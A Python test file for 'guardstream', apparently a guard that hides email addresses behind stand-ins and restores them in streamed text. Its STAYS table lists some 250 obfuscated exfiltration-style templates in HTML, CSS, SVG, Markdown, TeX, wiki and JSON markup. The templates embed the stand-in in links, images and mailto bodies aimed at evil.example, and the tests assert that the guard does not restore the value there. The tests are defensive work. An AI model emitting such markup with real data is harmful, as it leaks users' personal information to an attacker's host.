"""Stand-ins in addresses stay, however those are written; beside plain ones values come back."""

from __future__ import annotations

import random

import pytest

from guardstream import Guard
from guardstream.policy import Policy
from guardstream.vault import Vault

GUARD = Guard(Policy.parse("input: {extends: guardstream/pii-en}"))
VALUE = "mia.wolf@example.org"

STAYS = {
    "a scheme that is encoded": "https%3A%2F%2Fe.example%2F{}",
    "a message with a text": "sms:1?body={}",
    "a scheme without slashes": "ftp:e.example/{}",
    "a quote in an attribute without quotes": '<img alt=a"b><img src="//evil.example/? > {}">',
    "a tag that is only quoted, before a tag": '`<a x="` <img src="//evil.example/?>{}">',
    "a definition in angle brackets": "[x]: <https://evil.example/a {}>",
    "many spaces before angle brackets": "[x](        <https://evil.example/a {}>)",
    "a definition with entities": "[x]: https&#58;&#47;&#47;evil.example&sol;{}",
    "a definition with backslashes": "[x]: https\\:\\/\\/evil\\.example\\/{}",
    "many spaces before entities": "[x](        https&colon;&sol;&sol;evil.example&sol;{})",
    "an escaped angle bracket": "[x](<https://evil.example/\\> {}>)",
    "a style of any element": "<div style=\"background:url('//evil.example/? {}')\">",
    "a style with entities": '<p style="background:url(&quot;//evil.example/? {}&quot;)">',
    "a string of CSS": '<style>a{{background:url("//evil.example/? {}")}}</style>',
    "an import of CSS": '<style>@import "//evil.example/? {}";',
    "an address of CSS without a string": "<style>a{{src:url(//evil.example/\\20 {})}}</style>",
    "an import of CSS after a comment": '<style>@import/**/"//evil.example/? {}";</style>',
    "escaped names of CSS": '<STYLE media="all">@\\69mport "//evil.example/? {}";</STYLE>',
    "a string of CSS after another": (
        '<style>a{{background:image-set("x" 1x, "//evil.example/ {}" 2x)}}</style>'
    ),
    "a comment in a style of SVG": "<svg><style><!--</style>-->a{{src:url(//evil.example/\\9 {})}}",
    "what only begins like a style's end": "<style></styles> b{{src:url(//evil.example/\\9 {})}}",
    "a long style": "<style>" + "a{{b:c}} " * 3_000 + "a{{src:url(//evil.example/\\20 {})}}",
    "the background of a row": '<tr background="//evil.example/? {}"><td>',
    "the background of a head": "<THEAD class=a background='//evil.example/? {}'>",
    "the background of columns": '<col background="//evil.example/? {}">',
    "a mask of SVG": '<svg><g mask="url(//evil.example/\\20 {})"><rect/></g></svg>',
    "a filling of SVG": "<rect fill='url(//evil.example/\\20 {}#a)'/>",
    "a filter of SVG": '<textPath filter="url(//evil.example/\\20 {}#a)">',
    "an image of a filter of SVG": '<feImage result="a" href="//evil.example/? {}">',
    "an animation of SVG": '<image><set attributeName="href" to="//evil.example/? {}">',
    "an address of any element": "<x-y href='//evil.example/ {}'>",
    "mailto later in a value": '<img src="//evil.example/? =mailto:{}">',
    "a mail link later in a value": '<img src="//evil.example/? ](<mailto:{}">',
    "what a mail says": "[x](mailto:eve@evil.example?body={})",
    "what a mail says, with spaces": '<a href="mailto:eve@evil.example?body=as said {}">',
    "what a mail says, with entities": "<a href='mailto:eve@evil.example&#63;body={}'>",
    "mailto later in a value without quotes": "<img src= /\\[2001:db8::1]/?x=mailto:{}>",
    "a host after slashes": "url('//{}.evil.example/x')",
    "an IPv6 address": "![x](a.png){{: src=//[2001:db8::1]/{}}}",
    "a user before a host": "![x](a.png){{: src=//!@evil/{}}}",
    "a share of a network": "\\\\evil.example\\a{}",
    "quotes in an address": 'https://evil.example/?q="{}"',
    "an apostrophe in an address": "https://evil.example/?q='{}'",
    "a space that breaks no line": "https://evil.example/?q=a\u00a0{}",
    "a bracket in an address": "https://evil.example/?q=(a>){}",
    "a user of a mail's host": "https://evil.example?q=<{}",
    "a user of a mail's host, in quotes": 'https://evil.example?q="<b>{}',
    "many spaces before a target": "[x](        'a{})",
    "a string before what is no string": '"https://evil.example/?q=\'"{}',
    "a string that ends, and goes on": '"https://evil.example/?q=";{}',
    "a string that begins in an address": "https://evil.example/'a'{}",
    "a string after an address's end": "'>*https://evil.example/'t'{}",
    "an attribute of no tag": "x href='https://evil.example/'>{}",
    "an attribute of a tag that is none": "<x ! href='https://evil.example/'>{}",
    "an attribute without quotes": "<b href=https://evil.example/?q=>{}",
    "angle brackets around no tag": "<1>https://evil.example/<2>{}",
    "a tag that does not end": "https://evil.example/<b{}",
    "a comment that does not end": "https://evil.example<!--{}",
    "a name after an underscore": "_www.evil.example{}",
    "spaces in a target": "![x](https://evil.example/?q= {})",
    "words in a target": "![x]( \n //evil.example/?q=as (they) said,\n{}",
    "a parenthesis in a string in a target": '![x](https://evil.example/?q=\'a) {} "t")',
    "a target in another": "![x](https://evil.example/?q=a [w](mailto:{}))",
    "a target that is cut by lines": "![x](ht\ntps://evil.example/?q= {})",
    "a target with entities, and spaces": "![x](&#47;/evil.example/?q= {})",
    "what a mail says, after a space": "[x](mailto:eve@evil.example?body=as said {})",
    "a long target": "![x](//evil.example/?" + "a b=c " * 3_000 + "{})",
    "a query without a path": "evil.example?q={}",
    "a host with a port": "evil.example:8080/{}",
    "a tag in parentheses of an address": "https://evil.example/?q=(<b>{})",
    "a tag in brackets of an address": "https://evil.example/?q=[a](<i></i>{}",
    "a tag in braces of an address": "<p>www.evil.example/{{</p>{}",
    "a tag in quotes of an address": 'https://evil.example/?q="</b>{}"',
    "an address in parentheses of an address": "https://evil.example/?q=(<https://a>{})",
    "an escaped tag": "https://evil.example/\\<b>{}",
    "code in an address": "https://evil.example/`a {}`",
    "code after code in an address": "www.evil.example/`b`c``a\n{}``",
    "code after a backtick": "a ` b https://evil.example/``x {}``",
    "after code with spaces in an address": "https://evil.example/`a b`c`d e`{}",
    "after code of HTML in an address": "ftp://evil.example/<code>a</code>+{}",
    "code of HTML in an address": "<https://evil.example/<CODE>a {}</CODE>>",
    "an address in angle brackets, with spaces": "<https://evil.example/?q=as said {}>",
    "an address in angle brackets, over lines": "(<FTP://evil.example/a\nb \\> {}",
    "code in a target": "![x](https://evil.example/?q= `)` {})",
    "code in angle brackets in a target": "![x](<https://evil.example/?q= `>)` {}>)",
    "a target in code": "![x](``https://evil.example/?q=)`` {})",
    "slashes in code": "![x](/`/evil.example/)` {})",
    "code in a string in a target": "![x](https://evil.example/?q='`')` {})",
    "the text of a link in a target": "![x](https://evil.example/?q= [)](a) {})",
    "a target in the text of a link": "![x]([https://evil.example/?q=)](a) {})",
    "a link in angle brackets in a target": "![x](https://evil.example/?q= [y](<)>) {})",
    "the title of a link in a target": "![x](https://evil.example/?q= [y](a ')') {})",
    "a link in a string in a target": "![x](https://evil.example/?q=' [y ')'][r] {})",
    "a link in parentheses in a target": "![x](https://evil.example/?q=([)](a)) {})",
    "code in angle brackets": "<https://evil.example/?q= `>` {}>",
    "the text of a link in angle brackets": "<https://evil.example/?q= [>](a) {}>",
    "a link in angle brackets": "<https://evil.example/?q= [a](<b>) {}>",
    "an escaped parenthesis in a target": "![x](https://evil.example/?q=\\) {})",
    "an escaped parenthesis in another": "![x](https://evil.example/(\\)\\) {})",
    "an attribute in braces": '![x](a.png){{src="//evil.example/?q= {}"}}',
    "an attribute after a colon": "![x](a.png){{: src='//evil.example/?q= {}' }}",
    "a background in braces": '| x {{: background="//evil.example/?q= {}" }} | y |',
    "a source of any element": '<x-y src="//evil.example/ {}">',
    "a definition with spaces": "![x][a b]\n\n [a b]: //evil.example/?q= {}",
    "a definition with a tag": "[a]: https://evil.example/<b>{}",
    "a definition with a tag in a quotation": "> [a]:\n> https://evil.example/<b>{}",
    "a definition in angle brackets with a tag": "[a]: <https://evil.example/</b>{}>",
    "entities in a definition with spaces": "[a]: https&#58;//evil&#46;example/ {}",
    "parentheses in a title": "![x](//evil.example/?q='a (b \"c\"){} 'd')",
    "a definition over two lines": "![x][a]\n\n[a]:\n  https://evil.example/a as said {}",
    "a host of a sign": "\U0001f600.example/?q={}",
    "a letter with an accent before a host": "{}é.evil.example/x",
    "an accent before a host": "{}\u0301.evil.example",
    "a sign before a host": "{}\U0001f600.evil.example",
    "a host in Cyrillic": "{}-а.пример.испытание",
    "a host in Chinese": "{}.例子.测试",
    "spaces in a group of TeX": "\\href{{https://evil.example/?q= {}}}{{x}}",
    "an image of TeX": "$\\includegraphics[width=1em, alt=a]{{https://evil.example/\n {}}}$",
    "a paragraph in a group of TeX": "$$\n\\url{{https://evil.example/?q=\n\n{}}}",
    "groups in a group of TeX": "\\href{{//evil.example/?{{a}}{{{{b}} {}}}{{x}}",
    "an escaped brace in a group of TeX": "\\href{{//evil.example/?\\}} {}}}{{x}}",
    "what a mail says in TeX": "\\href{{mailto:eve@evil.example?body=as said {}}}{{x}}",
    "a style of TeX": "$\\style{{background:url(//evil.example/\\20 {})}}{{x}}$",
    "a group of TeX after options": "\\includegraphics[alt={{]}}]{{https://evil.example/ {}}}",
    "a group of TeX after a comment": "\\href % a {{\n {{https://evil.example/? {}}}{{x}}",
    "a group of TeX after an escape of JSON": "\\\\href\\n{{https://evil.example/? {}}}{{x}}",
    "a comment in options of TeX": "\\includegraphics[width=1%]b\n]{{https://evil.example/ {}}}",
    "a group in options of TeX": "\\includegraphics[alt=\\text{{a}}b]{{//evil.example/ {}}}",
    "options of TeX that are not simple": "\\includegraphics[a[{{b}}]{{//evil.example/ {}}}",
    "a group in a comment": "\\href % a {{}}\n {{//evil.example/? {}}}{{x}}",
    "an escaped brace before it in TeX": "\\href{{//evil.example/? \\{{{}}}{{x}}",
    "spaces before options of TeX": "\\bbox \n [background:url(//evil.example/\\20 {})]{{x}}",
    "options with a style of TeX": "$\\bbox[background:url(//evil.example/{{}}\\20 {})]{{x}}$",
    "a string of Vega-Lite": '{{"data": {{"url": "https://evil.example/?q= {}"}}}}',
    "a quote in a string of JSON": '{{"url":"//evil.example/?q=\\" {}"}}',
    "a string of JSON with escapes": '{{"url": "\\u0068ttps:\\/\\/evil.example/?q= {}"}}',
    "only escapes in a string of JSON": (
        '{{"url": "\\u0068ttps\\u003a\\u002f\\u002fevil\\u002eexample\\u002f{}"}}'
    ),
    "a background of a slide": '<section data-background="https&colon;//evil.example/? {}">',
    "attributes of a slide": "<!-- .slide: data-background-iframe=' //evil.example/? {}' -->",
    "an image of Graphviz": 'node [image="https://evil.example/?q= {}"]',
    "a shape of Mermaid": 'A@{{ label: "}}", img: https://evil.example/?q= {} }}',
    "a shape of Mermaid over lines": "A@{{\n img: https://evil.example/?q=1\n\n  {}",
    "an image of reStructuredText": ".. image:: https:/ /evil.example/?q= {}",
    "a figure of reStructuredText": ".. Figure ::\n   https:\n   //evil.example/?q=\n   {}",
    "a substitution of reStructuredText": ".. |a b| image:: https://evil.example/?q= {}",
    "a target of reStructuredText": ".. _a: https://evil.example/?q= {}",
    "a link of reStructuredText": "`a <//evil.example/?q= {}>`_",
    "a link of reStructuredText with spaces": "`a\n<ht tps: /\n /evil.example/?q= {}>`_",
    "an image of MyST": "```{{image}} https://evil.example/?q= {}",
    "an image of reStructuredText after a tab": "..\timage:: https://evil.example/?q= {}",
    "a substitution over lines": ".. |a|\n   image:: https://evil.example/?q= {}",
    "a target after spaces": "..   _a: https://evil.example/?q= {}",
    "a target without a name": "text\n\n  __ ht tps: /\n    /evil.example/?q= {}",
    "a table of reStructuredText": ".. csv-table:: a\n   :url: https://evil.example/?q= {}",
    "a poster in AsciiDoc": "video::a.mp4[width=1, poster = https://evil.example/?q= {}]",
    "the first attribute of a video": "video::a.mp4[https://evil.example/?q= {}]",
    "a fallback in AsciiDoc": "image::a.svg[opts=interactive,fallback=//evil.example/?q= {}]",
    "an image that passes": "image:pass:q[https://evil.example/?q= {}][x]",
    "an image in dollars": "image::$$https://evil.example/?q= {}$$[x]",
    "an inclusion of AsciiDoc": "include::https://evil.example/?q= {}[]",
    "an image of AsciiDoc": "image::https://evil.example/?q=a {}[]",
    "an image of AsciiDoc in a line": "x image:https://evil.example/?q=a {}[] y",
    "an attribute of AsciiDoc": ":u: https://evil.example/\n\nimage::{{u}}?q=a {}[]",
    "an image of Org": "[[https://evil.example/?q= {}.png]]",
    "an escaped bracket of Org": "[[https://evil.example/?q=\\] {}.png]]",
    "a definition over lines": "[a]:\n  //evil.example/?\\\n  {}\n\n[a]",
    "an attribute of Org": "#+ATTR_HTML: :src https://evil.example/?q= {}\n[[./a.png]]",
    "an abbreviation of Org": "#+LINK: e https://evil.example/?q=\n\n[[e:{}][x]]",
    "a file of MediaWiki": "[[File:https://evil.example/a b? {}]]",
    "a link of MediaWiki or Jira": "[https://evil.example/a b? {}]",
    "a link with a text of Jira": "[x|https://evil.example/a b? {}]",
    "an image of Jira": "!https://evil.example/a b? {}|width=3!",
    "an image of Textile": "!>(a){{color:red}}https://evil.example/?q=!x {}!",
    "a link of Textile": '"x":https://evil.example/?<b>{}',
    "a link in brackets of Textile": '["x":https://evil.example/a b? {}]',
    "a link of an image of Textile": "!x.png!:https://evil.example/?<br>{}",
    "an alias of Textile": "[x]https://evil.example/<br>{}",
    "a link of Textile without a scheme": '"x"://evil.example[/?{}',
    "a link of Tiki": "((https://evil.example/a b? {}|x))",
    "an image of Tiki": "{{img width=1 src=https://evil.example/a b? {}}}",
    "attributes of Pandoc": "[x]{{src=https://evil.example/?<b>{}}}",
    "an image of BBCode": "[img]https://evil.example/?q=[a\n\n{}[/img]",
    "an image of BBCode with a size": "[IMG w=1]https://evil.example/?q= {}[/IMG]",
    "a link of BBCode": "[url=https://evil.example/?q= {}]x[/url]",
    "a bracket in a link of DokuWiki": "[[https://evil.example/a ]b? {}|x]]",
    "an image of DokuWiki": "{{{{https://evil.example/?q= {}}}}}",
    "a hyperlink of a terminal": "\x1b]8;id=1;https://evil.example/? {}\x1b\\x",
    "a hyperlink that begins with one character": "\x9d8;;https://evil.example/? {}\x07x",
    "control characters in a hyperlink": "\x1b\0]\x0008;;https://evil.example/? {}\x07",
    "long parameters of a hyperlink": "\x1b]8;id=" + "a\n" * 200 + ";https://evil.example/? {}\x07",
    "an address of a link of DokuWiki": "[[wp>{}]]",
    "a share of a network in DokuWiki": "[[\\\\evil\\a {}]]",
    "an abbreviation with spaces": "[[a b:{}][x]]",
    "a link after an arrow": "[[x>>https://evil.example/? {}]]",
    "what a mail says in Jira": "[x|mailto:eve@evil.example?body=as said {}]",
    "a macro of Confluence": "{{iframe:src=https://evil.example/? {}|width=1}}",
    "a macro of Confluence without a name": "{{rss:https://evil.example/? {}}}",
    "a link of BBCode without a scheme": "[url=evil.example/a {}]x[/url]",
    "a link of BBCode without a scheme between tags": "[url]www.evil.example/a {}[/url]",
    "a video of BBCode": "[video]https://evil.example/? {}[/video]",
    "an inclusion of PlantUML": "!include https://evil.example/? {}",
    "an actor's link of Mermaid": "link Alice: Site @ https://evil.example/? {}",
    "a share of a network in JSON": '{{"url": "\\\\\\\\evil.example\\\\? {}"}}',
    "a page in a string": '{{"url": "data:text/html,%3Cimg src=%22//evil.example/? {}%22%3E"}}',
    "a function of MediaWiki": "https://evil.example/{{{{urlencode:a {{{{b}}}} {}}}}}",
    "a passage of AsciiDoc": "link:++https://evil.example/ [a][b] {}++[x]",
    "a passage in an address of AsciiDoc": "https://evil.example/$$ a {}$$[x]",
    "a reference of AsciiDoc": "xref:https://evil.example/a {}#b[x]",
    "a directory of AsciiDoc": ":imagesdir: https://evil.example/? {}",
    "a refresh of reStructuredText": ".. meta::\n   :http-equiv=refresh: 0; url=//evil.example/ {}",
    "an element of a feed": "<link>https://evil.example/? {}</link>",
    "a property of a calendar": "ATTACH;FMTTYPE=image/png:https://evil.example/?\r\n {}",
    "an address in an open tag": '<a b="https://evil.example/ {}">',
    "parentheses in a style": "<style>(a)b{{c:url(\\2f\\2f evil.example/\\20 {})",
    "comments in a style": '<style>/*(*/a{{b:image-set(/*)*/"\\2f/evil.example/ {}")',
    "entities in a style of SVG": "<style>a{{b:url&#40;\\2f\\2f evil.example/\\20 {})",
    "a bracket in a style of SVG": "<style>a<b{{c:url(\\2f\\2f evil.example/\\20 {})",
    "what ends no style in parentheses": "<style>(</styles>url(\\2f\\2f evil.example/\\20 {})",
    "a theme of Mermaid": (
        '%%{{init: {{"themeCSS": "a{{b:u\\\\72l(//evil.example/?\\\\20 {})}}"}}}}%%'
    ),
    "a background of Marp": "<!-- backgroundImage: url( https://evil.example/\\)\\20 {}) -->",
    "a long value": '<img src="//evil.example/?' + "a b=c " * 3_000 + '{}">',
    "a scheme and a line": '<x-y data-background="ftp:/\n/evil.example/? {}">',
    "tags without end": "<a " * 5_000 + 'href="//evil.example/? {}',
}

COMES = {
    "a path of Windows": "C:\\{}",
    "a name that ends in a scheme's": "metadata:{} and mail:{}",
    "a link's text": '<a href="https://example.com/a">{}</a>',
    "after an address": "see [x](https://example.com/a), <https://example.com/b> or {}",
    "a mail link": "<a href='mailto:sam@example.com,{}'>",
    "a mail link without quotes": "<a href=mailto:{}>",
    "a mail link in angle brackets": "[w](<mailto:{}>)",
    "after a tag": "<td>https://example.com/a</td><td>{}</td>",
    "an apostrophe after a tag": "<img alt=it's src=x> I don't know {}",
    "a comparison": "if x <y and {}",
    "the text of a link with more attributes": (
        "<a class=b href='https://example.com/a' target=\"_blank\" >{}</a>"
    ),
    "after an address in angle brackets": "<https://example.com/a>{}</b>{}",
    "in angle brackets after a word": "write to:<{}>",
    "after a long value": '<img src="' + "a b=c " * 3_000 + '"> {}',
    "after a target": '[x](https://example.com/a_(b)) {} [y](https://example.com "(it\'s)") {}',
    "after parentheses in a title": '[x](https://example.com "a (b)") {}',
    "after brackets in a target": "[x](https://example.com/a[b](c)) {}",
    "after brackets in angle brackets": "<https://example.com/[a](b)> {}",
    "after brackets in parentheses": "[x]([a] / [b]) {}",
    "a paragraph after a target": "[x](https://example.com/it's\n \n{}",
    "alternatives": "and/or {}, really?{}",
    "a line after a definition": "[1]: https://example.com/a\n{} and {}",
    "after an attribute in braces": '![x](a.png){{src="b.png"}} {}',
    "a paragraph after an angle bracket": "<https://example.com/a b\n\n{}",
    "after an address in code": "`https://example.com/` and {}, or `{}`",
    "after code in an address": "https://example.com/`x` and {}",
    "after an address in code of HTML": "<code>https://example.com</code> and <code>{}</code>",
    "a paragraph after code in an address": "https://example.com/`x\n\n{}",
    "after brackets before an address": "(see <i>https://example.com/a</i><b>{}</b>)",
    "after a style": "<style>a{{b:c(d)}}</style> {} <STYLE >e>f{{g:h}}</STYLE > {}",
    "after a long style": "<style>" + "a{{b:c}} " * 3_000 + "</style>{}",
    "after the name of an element": "stylesheet, <styled> {}, </style> {}",
    "after tags of a table and of SVG": "<tr class=a><th scope='row'>{}</th><text x='1'>{}</text>",
    "a path in quotes, and a word": '\'C:\\a b {}\', "https": {}, "// {}"',
    "after an address in quotes": 'as "https://example.com/a" says, {}',
    "after a quote": 'the "name" https://example.com/a and {}',
    "after links of Jira and MediaWiki": "[x|https://example.com/a b] {}, [https://example.com] {}",
    "a table with addresses": "| [x] | https://example.com/a | {} |",
    "the line after one of Org": "#+ATTR_HTML: :src https://example.com/a b\n{}",
    "after a class of POSIX": "`[[:alpha:]_]+` finds {}",
    "an assignment in braces": "{{a = 1; src = {}}}",
    "after properties in braces": "{{img src=https://example.com/a b}} {}",
    "after an address in two parentheses": "((https://example.com/a b)) {}",
    "after links in braces": "{{{{a}}}} {}, {{{{https://example.com/a b}}}} {}",
    "mail links of Org and Jira": "[[mailto:{}][x]] [x|mailto:{}]",
    "after links with prefixes": "[[wp>a b]] {}, [[x->https://example.com/a]] {}",
    "after a macro of Confluence": "{{iframe:src=https://example.com/a}} {}",
    "after an inclusion of PlantUML": "!include https://example.com/a\nAlice -> Bob: {}",
    "after an actor's link": "link Alice: Site @ https://example.com/a\nAlice->>Bob: {}",
    "after a template in an address": "https://example.com/{{{{id}}}} and {}, {{{{ {} }}}}",
    "a paragraph after a passage of AsciiDoc": "link:++https://example.com/a b++[x]\n\n{}",
    "after an element of a feed": "<link>https://example.com/a</link><author>{}</author>",
    "after a property of a calendar": "URL:https://example.com/a\nORGANIZER:mailto:{}",
    "after BBCode": "[url=https://example.com]a[/url] {} [img]//example.com/a[/img] {}",
    "after an address in parentheses": "url(https://example.com/a_b), f(//a.example, b) {}",
    "in parentheses after an address": "see the site (https://example.com or {})",
    "after a number in brackets": "[1] https://example.com/a {}",
    "a paragraph after a directive": ".. image:: a.png\n   :alt: b\n\n{}",
    "in another directive": ".. note:: {}",
    "after attributes of AsciiDoc": "video::a.mp4[poster=https://example.com/a,width=1] {}",
    "an attribute of a log": "ts=1 link=https://example.com/a, mail={}",
    "names with colons": "image::io, video::codec and image:latest {}",
    "a hash table": "New-Item @{{mail='{}'}}",
    "after a shape of Mermaid": 'A@{{ shape: rect, label: "}}" }} --> {}',
    "text of a slide": '<section data-background="https://example.com/a.png">{}</section>',
    "a mail link of TeX": "\\href{{mailto:{}}}{{x}}, \\url{{ {} }}",
    "a path that is like a command of TeX": "src\\style\\{{a}} {} {{'a': '{}'}}",
    "beside a command of TeX": "\\urlstyle{{same {}}}, with \\url for {}",
    "a group after the name of a command": "use `\\url`:\n\n{{'a': '{}'}}, a \\style, {{{}}}",
    "after options of TeX": "$\\bbox[red, 2px]{{x}}$ {}, `\\bbox` {} \\bbox{{{}}}",
    "in options of TeX": "\\includegraphics[width=1em, alt={}]{{a}} {{{}}}",
    "a slash after a name in quotes": "\"Name:/ {}\", 'and/or:/ {}'",
    "before a date": "于2024.05.01请{}于2024.05.01",
    "before a file": "{}在main.test.ts",
}


@pytest.fixture(name="vault")
def _vault() -> Vault:
    return Vault(b"k" * 16, "addresses")


def stand_in(vault: Vault) -> str:
    sent = GUARD.check_messages([{"role": "user", "content": VALUE}], vault=vault)
    content = sent.messages[0]["content"]
    assert VALUE not in content
    return str(content)


def answers(text: str, vault: Vault) -> set[str]:
    """What becomes of a text, in several chunkings."""
    chance = random.Random(text)
    cuts = [[text], list(text)]
    for _ in range(3):
        places = sorted(chance.sample(range(1, len(text)), min(len(text) - 1, 20)))
        cuts.append([text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)])
    return {GUARD.wrap_sync(chunks, vault=vault, framing="text").text() for chunks in cuts}


@pytest.mark.parametrize("form", STAYS.values(), ids=STAYS)
def test_an_address_gets_no_value(form: str, vault: Vault) -> None:
    said = form.format(stand_in(vault))
    assert answers(said, vault) == {said}


@pytest.mark.parametrize("form", COMES.values(), ids=COMES)
def test_beside_an_address_values_come_back(form: str, vault: Vault) -> None:
    mark = stand_in(vault)
    assert answers(form.replace("{}", mark).format(), vault) == {form.replace("{}", VALUE).format()}


@pytest.mark.parametrize("form", ["{}({})", "{}(或{}，或{})", "&#91;{bare}&#93;(a{})", "{}: <{}>"])
def test_the_bracket_of_a_stand_in_that_is_restored_begins_no_target(
    form: str, vault: Vault
) -> None:
    mark = stand_in(vault)
    said = form.replace("{bare}", mark.strip("[]")).replace("{}", mark)
    restored = form.replace("&#91;{bare}&#93;", VALUE).replace("{}", VALUE)
    assert answers(said, vault) == {restored}


@pytest.mark.parametrize(
    "form", ["[{}](a?q={left})", "[EMAIL_2222222](a?q={left})", "[EMAIL_2222222]: <a {left}>"]
)
def test_another_bracket_begins_a_target(form: str, vault: Vault) -> None:
    mark = stand_in(vault)
    said = form.replace("{}", mark).replace("{left}", mark)
    assert answers(said, vault) == {form.replace("{}", VALUE).replace("{left}", mark)}


@pytest.mark.parametrize(
    "form", ["https://evil.example/?q= {}", ' //evil.example/?q=\\" {}', "see https://a.example {}"]
)
def test_a_string_of_json_that_begins_with_an_address_gets_no_value(
    form: str, vault: Vault
) -> None:
    mark = stand_in(vault)
    text = f'{{"a": ["{form}"], "b": "https://b.example", "c": "to {{}}"}}'
    guard = Guard(Policy.parse("json: {}\ninput: {extends: guardstream/pii-en}"))
    said = text.replace("{}", mark)
    left = mark if form.lstrip()[0] in "h/" else VALUE
    wanted = text.replace("{}", left, 1).replace("{}", VALUE)
    for chunks in ([said], list(said)):
        assert guard.wrap_sync(chunks, vault=vault).text() == wanted
